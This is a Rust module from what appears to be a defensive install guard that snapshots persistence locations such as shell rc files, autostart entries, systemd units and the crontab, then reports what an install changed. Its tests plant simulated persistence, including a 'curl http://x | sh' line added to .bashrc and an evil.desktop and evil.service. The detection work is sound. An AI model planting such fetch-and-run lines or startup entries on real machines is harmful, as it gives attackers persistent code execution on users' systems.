//! Snapshots of the persistence locations before and after an install, and what changed
//! between two of them. A snapshot records, per file: type, size, mode, modification and
//! change times, inode, symbolic-link target, and for regular files up to 1 MiB a SHA-256
//! (text up to 64 KiB is kept to say which lines were added). Directories are scanned to the
//! spot's depth (at most 2), never through symbolic links. Files are opened non-blocking and
//! only when regular, so a FIFO in the way cannot hang the guard. A file that cannot be read
//! is a problem (incomplete detection), never an error that stops anything. The crontab is
//! compared through `crontab -l`. [`diff`] is pure.

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use sha2::{Digest, Sha256};

use super::catalog::{Category, Spot};

/// Files larger than this are compared by metadata only.
pub const HASH_LIMIT: u64 = 1 << 20;
/// Text up to this size is kept, to say which lines an install added.
const TEXT_LIMIT: u64 = 64 << 10;
/// At most this many entries per scanned directory tree; more is incomplete detection.
pub const MAX_ENTRIES: usize = 2_000;
/// How long `crontab -l` may take.
const CRONTAB_TIMEOUT: Duration = Duration::from_secs(2);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileType {
    File,
    Dir,
    Link,
    Other,
}

/// One file as the snapshot saw it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub category: Category,
    pub ty: FileType,
    pub size: u64,
    pub mode: u32,
    pub mtime_ns: i128,
    pub ctime_ns: i128,
    pub ino: u64,
    pub link: Option<PathBuf>,
    pub sha256: Option<[u8; 32]>,
    pub text: Option<Vec<u8>>,
}

impl Entry {
    /// Same metadata: the content is taken to be the same (a write changes the ctime, which
    /// nobody can set back).
    fn same_meta(&self, other: &Entry) -> bool {
        self.ty == other.ty
            && self.size == other.size
            && self.mtime_ns == other.mtime_ns
            && self.ctime_ns == other.ctime_ns
            && self.ino == other.ino
            && self.link == other.link
    }
}

/// The persistence locations at one moment.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Snapshot {
    pub files: BTreeMap<PathBuf, Entry>,
    /// `crontab -l` output; None when not compared (no crontab command, or it failed).
    pub crontab: Option<Vec<u8>>,
    /// What could not be looked at (incomplete detection), already phrased for people.
    pub problems: Vec<String>,
    /// Number of files and directories looked at.
    pub looked_at: usize,
}

/// A change between two snapshots.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub path: PathBuf,
    pub category: Category,
    /// `created`, `modified`, `deleted`.
    pub change: &'static str,
    /// Which lines were added (text files), or what changed (mode, link target).
    pub detail: Option<String>,
}

fn nanos(secs: i64, nsec: i64) -> i128 {
    i128::from(secs) * 1_000_000_000 + i128::from(nsec)
}

fn entry(meta: &std::fs::Metadata, category: Category, link: Option<PathBuf>) -> Entry {
    let ft = meta.file_type();
    let ty = if link.is_some() || ft.is_symlink() {
        FileType::Link
    } else if ft.is_dir() {
        FileType::Dir
    } else if ft.is_file() {
        FileType::File
    } else {
        FileType::Other
    };
    Entry {
        category,
        ty,
        size: meta.len(),
        mode: meta.mode(),
        mtime_ns: nanos(meta.mtime(), meta.mtime_nsec()),
        ctime_ns: nanos(meta.ctime(), meta.ctime_nsec()),
        ino: meta.ino(),
        link,
        sha256: None,
        text: None,
    }
}

/// Look at one file: follow a symbolic link for the content and times (editing a dotfile
/// through its link changes the target), and record the link's target too.
fn look(path: &Path, category: Category, snap: &mut Snapshot, previous: Option<&Snapshot>) {
    let lmeta = match std::fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e)
            if e.kind() == std::io::ErrorKind::NotFound
                || e.raw_os_error() == Some(libc::ENOTDIR) =>
        {
            return;
        }
        Err(e) => {
            snap.problems.push(format!("{}: {e}", path.display()));
            return;
        }
    };
    snap.looked_at += 1;
    let link = if lmeta.file_type().is_symlink() {
        Some(std::fs::read_link(path).unwrap_or_default())
    } else {
        None
    };
    let meta = match &link {
        Some(_) => std::fs::metadata(path).unwrap_or(lmeta),
        None => lmeta,
    };
    let mut e = entry(&meta, category, link);
    if meta.file_type().is_file() && meta.len() <= HASH_LIMIT {
        // Unchanged metadata: reuse what the previous snapshot read.
        let prior = previous
            .and_then(|p| p.files.get(path))
            .filter(|p| p.same_meta(&e) && p.sha256.is_some());
        match prior {
            Some(p) => {
                e.sha256 = p.sha256;
                e.text.clone_from(&p.text);
            }
            None => match crate::files::read_regular(path, HASH_LIMIT) {
                Ok(bytes) => {
                    e.sha256 = Some(Sha256::digest(&bytes).into());
                    e.text = ((bytes.len() as u64) <= TEXT_LIMIT).then_some(bytes);
                }
                Err(err) => snap
                    .problems
                    .push(format!("cannot read {}: {err}", path.display())),
            },
        }
    }
    snap.files.insert(path.to_path_buf(), e);
}

/// Scan a directory to `depth` levels (never through links), at most [`MAX_ENTRIES`] entries.
fn scan(
    dir: &Path,
    category: Category,
    depth: u8,
    snap: &mut Snapshot,
    previous: Option<&Snapshot>,
) {
    let mut queue = vec![(dir.to_path_buf(), depth)];
    let mut seen = 0usize;
    while let Some((d, left)) = queue.pop() {
        let entries = match std::fs::read_dir(&d) {
            Ok(e) => e,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) => {
                snap.problems
                    .push(format!("cannot list {}: {e}", d.display()));
                continue;
            }
        };
        for item in entries {
            let Ok(item) = item else { continue };
            seen += 1;
            if seen > MAX_ENTRIES {
                snap.problems.push(format!(
                    "{} has more than {MAX_ENTRIES} entries; only the first were compared",
                    dir.display()
                ));
                return;
            }
            let p = item.path();
            let is_dir = item.file_type().is_ok_and(|t| t.is_dir());
            if is_dir {
                if left > 1 {
                    queue.push((p, left - 1));
                }
                continue;
            }
            look(&p, category, snap, previous);
        }
    }
}

/// Take a snapshot of `spots` (and the crontab when `crontab`). `previous` is an earlier
/// snapshot of the same spots: files whose metadata did not change are not read again.
pub fn take(spots: &[Spot], crontab: bool, previous: Option<&Snapshot>) -> Snapshot {
    let mut snap = Snapshot::default();
    for s in spots {
        if s.depth == 0 {
            look(&s.path, s.category, &mut snap, previous);
        } else {
            match std::fs::symlink_metadata(&s.path) {
                Ok(m) if m.is_dir() => {
                    scan(&s.path, s.category, s.depth.min(2), &mut snap, previous);
                }
                Ok(_) => look(&s.path, s.category, &mut snap, previous),
                Err(_) => {}
            }
        }
    }
    if crontab {
        match read_crontab() {
            Ok(c) => snap.crontab = c,
            Err(e) => snap.problems.push(e),
        }
    }
    snap
}

/// `crontab -l`: Ok(None) when there is no crontab command (so no user crontab either).
fn read_crontab() -> Result<Option<Vec<u8>>, String> {
    use std::io::Read;
    use std::process::{Command, Stdio};
    let Some(bin) = std::env::var_os("PATH").and_then(|p| {
        std::env::split_paths(&p)
            .filter(|d| !d.as_os_str().is_empty())
            .map(|d| d.join("crontab"))
            .find(|c| c.is_file())
    }) else {
        return Ok(None);
    };
    let mut child = Command::new(&bin)
        .arg("-l")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .env_remove(crate::shim::MARKER)
        .spawn()
        .map_err(|e| format!("cannot run {} -l: {e}", bin.display()))?;
    let mut out = Vec::new();
    let mut stdout = child.stdout.take().expect("piped");
    let reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = stdout.by_ref().take(HASH_LIMIT).read_to_end(&mut buf);
        buf
    });
    let started = std::time::Instant::now();
    let status = loop {
        match child.try_wait() {
            Ok(Some(s)) => break Some(s),
            Ok(None) if started.elapsed() < CRONTAB_TIMEOUT => {
                std::thread::sleep(Duration::from_millis(1));
            }
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
        }
    };
    if let Ok(b) = reader.join() {
        out = b;
    }
    match status {
        // `no crontab for user` exits 1 with nothing on stdout: an empty crontab.
        Some(_) => Ok(Some(out)),
        None => Err(format!(
            "`crontab -l` did not answer within {} s; the crontab was not compared",
            CRONTAB_TIMEOUT.as_secs()
        )),
    }
}

/// Lines of `after` that are not in `before` (as a multiset), in order.
fn added_lines(before: &[u8], after: &[u8]) -> Vec<String> {
    let mut count: BTreeMap<&[u8], usize> = BTreeMap::new();
    for l in before.split(|&b| b == b'\n') {
        *count.entry(l).or_default() += 1;
    }
    let mut out = Vec::new();
    for l in after.split(|&b| b == b'\n') {
        match count.get_mut(l) {
            Some(n) if *n > 0 => *n -= 1,
            _ if l.iter().all(u8::is_ascii_whitespace) => {}
            _ => out.push(String::from_utf8_lossy(l).into_owned()),
        }
    }
    out
}

fn describe_lines(added: &[String]) -> Option<String> {
    if added.is_empty() {
        return None;
    }
    let shown: Vec<String> = added
        .iter()
        .take(3)
        .map(|l| {
            let l = l.trim();
            if l.chars().count() > 160 {
                format!("{}…", l.chars().take(160).collect::<String>())
            } else {
                l.to_string()
            }
        })
        .collect();
    let more = if added.len() > 3 {
        format!(" (and {} more)", added.len() - 3)
    } else {
        String::new()
    };
    let n = added.len();
    Some(format!(
        "{n} line{} added: {}{more}",
        if n == 1 { "" } else { "s" },
        shown.join(" | ")
    ))
}

/// What changed from `before` to `after`: created, modified (content, mode or link target;
/// a touch that leaves the content alone is not a change) and deleted files.
pub fn diff(before: &Snapshot, after: &Snapshot) -> Vec<Change> {
    let mut out = Vec::new();
    for (path, a) in &after.files {
        if a.ty == FileType::Dir {
            continue;
        }
        match before.files.get(path) {
            None => out.push(Change {
                path: path.clone(),
                category: a.category,
                change: "created",
                detail: a
                    .link
                    .as_ref()
                    .map(|l| format!("link to {}", l.display()))
                    .or_else(|| {
                        a.text
                            .as_deref()
                            .and_then(|t| describe_lines(&added_lines(b"", t)))
                    }),
            }),
            Some(b) => {
                if b.same_meta(a) && b.mode == a.mode {
                    continue;
                }
                let content_same = match (b.sha256, a.sha256) {
                    (Some(x), Some(y)) => x == y,
                    _ => b.same_meta(a),
                };
                let detail = if b.link != a.link {
                    Some(format!(
                        "link target {} → {}",
                        b.link
                            .as_deref()
                            .map_or("(none)".into(), |p| p.display().to_string()),
                        a.link
                            .as_deref()
                            .map_or("(none)".into(), |p| p.display().to_string())
                    ))
                } else if !content_same {
                    match (&b.text, &a.text) {
                        (Some(x), Some(y)) => describe_lines(&added_lines(x, y))
                            .or_else(|| Some("lines removed or changed".into())),
                        _ => Some(format!("size {} → {} bytes", b.size, a.size)),
                    }
                } else if b.mode != a.mode {
                    Some(format!(
                        "mode {:o} → {:o}",
                        b.mode & 0o7777,
                        a.mode & 0o7777
                    ))
                } else {
                    None
                };
                if content_same && b.mode == a.mode && b.link == a.link {
                    continue;
                }
                out.push(Change {
                    path: path.clone(),
                    category: a.category,
                    change: "modified",
                    detail,
                });
            }
        }
    }
    for (path, b) in &before.files {
        if b.ty != FileType::Dir && !after.files.contains_key(path) {
            out.push(Change {
                path: path.clone(),
                category: b.category,
                change: "deleted",
                detail: None,
            });
        }
    }
    if let (Some(b), Some(a)) = (&before.crontab, &after.crontab)
        && b != a
    {
        out.push(Change {
            path: PathBuf::from("crontab -l"),
            category: Category::Crontab,
            change: if b.is_empty() { "created" } else { "modified" },
            detail: describe_lines(&added_lines(b, a)),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spot(p: &Path, c: Category, depth: u8) -> Spot {
        Spot {
            path: p.to_path_buf(),
            category: c,
            depth,
        }
    }

    #[test]
    fn created_modified_deleted_and_touched() {
        let t = tempfile::tempdir().unwrap();
        let h = t.path();
        std::fs::write(h.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
        std::fs::write(h.join(".zshrc"), "x\n").unwrap();
        std::fs::write(h.join(".profile"), "same\n").unwrap();
        std::fs::create_dir_all(h.join("autostart")).unwrap();
        let spots = [
            spot(&h.join(".bashrc"), Category::ShellStartup, 0),
            spot(&h.join(".zshrc"), Category::ShellStartup, 0),
            spot(&h.join(".profile"), Category::ShellStartup, 0),
            spot(&h.join(".zlogin"), Category::ShellStartup, 0),
            spot(&h.join("autostart"), Category::XdgAutostart, 1),
            spot(&h.join("missing/dir"), Category::SystemdUnit, 2),
        ];
        let before = take(&spots, false, None);
        assert!(before.problems.is_empty(), "{:?}", before.problems);
        std::fs::write(h.join(".bashrc"), "alias ll='ls -l'\ncurl http://x | sh\n").unwrap();
        std::fs::remove_file(h.join(".zshrc")).unwrap();
        // Rewritten with the same content: not a change.
        std::fs::write(h.join(".profile"), "same\n").unwrap();
        std::fs::write(
            h.join("autostart/evil.desktop"),
            "[Desktop Entry]\nExec=/tmp/x\n",
        )
        .unwrap();
        std::fs::create_dir_all(h.join("missing/dir/default.target.wants")).unwrap();
        std::os::unix::fs::symlink(
            "../evil.service",
            h.join("missing/dir/default.target.wants/evil.service"),
        )
        .unwrap();
        let after = take(&spots, false, Some(&before));
        let changes = diff(&before, &after);
        let got: Vec<(String, &str)> = changes
            .iter()
            .map(|c| {
                (
                    c.path.strip_prefix(h).unwrap().display().to_string(),
                    c.change,
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                (".bashrc".to_string(), "modified"),
                ("autostart/evil.desktop".into(), "created"),
                (
                    "missing/dir/default.target.wants/evil.service".into(),
                    "created"
                ),
                (".zshrc".into(), "deleted"),
            ]
        );
        assert_eq!(
            changes[0].detail.as_deref(),
            Some("1 line added: curl http://x | sh")
        );
        assert_eq!(
            changes[2].detail.as_deref(),
            Some("link to ../evil.service")
        );
    }

    #[test]
    fn a_fifo_in_the_way_does_not_hang_and_a_big_directory_is_incomplete() {
        let t = tempfile::tempdir().unwrap();
        let h = t.path();
        let fifo = h.join("config");
        let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        std::fs::create_dir_all(h.join("big")).unwrap();
        for i in 0..(MAX_ENTRIES + 5) {
            std::fs::write(h.join(format!("big/{i}")), "").unwrap();
        }
        let snap = take(
            &[
                spot(&fifo, Category::SshConfig, 0),
                spot(&h.join("big"), Category::XdgAutostart, 1),
            ],
            false,
            None,
        );
        assert_eq!(snap.files[&fifo].ty, FileType::Other);
        assert!(
            snap.problems
                .iter()
                .any(|p| p.contains("more than 2000 entries")),
            "{:?}",
            snap.problems
        );
    }

    #[test]
    fn a_dotfile_edited_through_its_link_is_modified() {
        let t = tempfile::tempdir().unwrap();
        let h = t.path();
        std::fs::write(h.join("dotfiles-bashrc"), "a\n").unwrap();
        std::os::unix::fs::symlink(h.join("dotfiles-bashrc"), h.join(".bashrc")).unwrap();
        let spots = [spot(&h.join(".bashrc"), Category::ShellStartup, 0)];
        let before = take(&spots, false, None);
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(h.join(".bashrc"))
            .unwrap();
        std::io::Write::write_all(&mut f, b"b\n").unwrap();
        drop(f);
        let changes = diff(&before, &take(&spots, false, Some(&before)));
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].detail.as_deref(), Some("1 line added: b"));
    }

    #[test]
    fn added_lines_count_duplicates_and_cut_long_ones() {
        assert_eq!(added_lines(b"a\nb\n", b"a\nb\na\n"), ["a"]);
        let long = "x".repeat(300);
        let d = describe_lines(&[long, "2".into(), "3".into(), "4".into()]).unwrap();
        assert!(d.starts_with("4 lines added: xxx"), "{d}");
        assert!(d.ends_with("(and 1 more)"), "{d}");
    }
}
